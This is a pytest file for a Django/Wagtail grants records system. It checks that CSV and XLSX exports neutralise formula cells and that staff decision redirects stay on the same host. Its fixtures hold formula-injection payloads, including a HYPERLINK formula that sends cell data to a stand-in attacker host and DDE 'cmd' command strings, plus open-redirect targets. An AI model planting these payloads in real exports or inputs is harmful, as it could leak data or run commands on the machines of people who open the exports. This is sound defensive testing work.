"""Spreadsheet exports neutralise formula cells, and every export view of the records section goes through the
neutralising mixin; a staff action's ``next`` never leads to another host."""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from records.exports import FORMULA_PREFIXES, SafeSpreadsheetExportMixin
from records.grants.models import Status
from tests.factories import grants as f

pytestmark = pytest.mark.django_db

HOSTILE = {
    "pi_name": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "title": "+SUM(1,2)",
    "pi_email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "institution": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def is_formula(value):
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def walk(patterns):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from walk(pattern.url_patterns)
        elif isinstance(pattern, URLPattern):
            yield pattern.callback


@pytest.fixture
def hostile_data():
    call = f.make_call()
    institution = f.make_institution(call.programme, name=HOSTILE["institution"])
    f.make_application(call, institution, title=HOSTILE["title"], pi_name=HOSTILE["pi_name"], pi_email="a@example.org")
    f.make_application(call, institution, title=HOSTILE["tab"], pi_name=HOSTILE["cr"], pi_email=HOSTILE["pi_email"])
    f.make_application(call, institution, title="普通项目", pi_name="李示例", status=Status.FORMAL_REVIEW)
    return call


def test_every_export_view_of_the_records_section_neutralises_formulas():
    exporters = set()
    for callback in walk(get_resolver().url_patterns):
        view_class = getattr(callback, "view_class", None)
        exporter = view_class is not None and issubclass(view_class, SpreadsheetExportMixin)
        if exporter and view_class.__module__.startswith("records"):
            exporters.add(view_class)
    assert exporters, "no records export view found"
    unsafe = [cls for cls in exporters if not issubclass(cls, SafeSpreadsheetExportMixin)]
    assert unsafe == []


def test_the_csv_export_of_applications_has_no_formula_cell(client, hostile_data):
    client.force_login(f.office_user())
    response = client.get("/admin/grants/applications/?export=csv")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="applications.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert len(rows) == 4
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if is_formula(cell)] == []
    for value in HOSTILE.values():
        assert "'" + value in cells, value  # kept, as text


def test_the_xlsx_export_of_applications_has_no_formula_cell(client, hostile_data):
    client.force_login(f.office_user())
    response = client.get("/admin/grants/applications/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert sheet.max_row == 4
    assert [cell.value for cell in cells if cell.data_type == "f" or is_formula(cell.value)] == []
    values = [cell.value for cell in cells]
    for value in HOSTILE.values():
        assert "'" + value in values, value


def test_the_institution_export_has_no_formula_cell(client, hostile_data):
    client.force_login(f.office_user())
    response = client.get("/admin/grants/institutions/?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE["institution"] in cells
    assert [cell for cell in cells if is_formula(cell)] == []


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example/"])
def test_a_staff_decision_never_returns_to_another_host(client, target):
    call = f.make_call()
    application = f.make_application(call, f.make_institution(call.programme), status=Status.PANEL_REVIEW)
    client.force_login(f.office_user())
    response = client.post(
        f"/admin/grants/applications/decide/{application.pk}/",
        {"decision": "not_fund", "reason": "", "next": target},
    )
    assert response.status_code == 302
    assert response["Location"] == f"/admin/grants/applications/inspect/{application.pk}/"
    local = client.post(
        f"/admin/grants/applications/decide/{application.pk}/",
        {"decision": "not_fund", "reason": "", "next": f"/admin/grants/calls/panel/{call.pk}/"},
    )
    assert local["Location"] == f"/admin/grants/calls/panel/{call.pk}/"


def test_wagtail_reports_neutralise_what_editors_typed(client, site_tree):
    """The site history report exports page titles, which any editor types: a formula title stays text."""
    from wagtail.log_actions import log

    from content.models import StandardPage
    from tests.factories.pages import publish_child

    page = publish_child(site_tree["home"], StandardPage(title='=HYPERLINK("https://evil.example","x")', slug="f"))
    log(page, "wagtail.edit")
    client.force_login(f.user("admin", is_superuser=True))
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + page.title in cells
    assert [cell for cell in cells if is_formula(cell)] == []
